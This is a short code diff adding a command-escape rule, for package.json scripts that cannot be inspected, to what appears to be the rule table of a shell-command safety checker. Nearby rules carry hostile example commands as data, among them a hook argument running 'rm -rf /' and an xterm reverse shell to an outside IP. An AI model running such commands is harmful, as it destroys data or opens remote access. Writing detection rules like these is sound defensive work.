@@ -20,6 +20,9 @@ static_rule("EXEC-003", "command-escape", "ask",
             "./tool --hook 'rm -rf /'")
 static_rule("EXEC-004", "command-escape", "ask",
             "a command a program would run could not be parsed", "git -c core.pager='a \"b' log")
+static_rule("EXEC-006", "command-escape", "ask",
+            "runs a package.json script Tether cannot read (a link, not a regular file, over 1 MiB, not JSON, "
+            "outside the workspace, or in a folder unknown until run time)", 'cd "$d" && npm run db:reset')
 static_rule("SHELL-006", "reverse-shell", "deny",
             "a terminal is opened on another host's X display (a reverse shell)",
             "xterm -display 203.0.113.7:1")
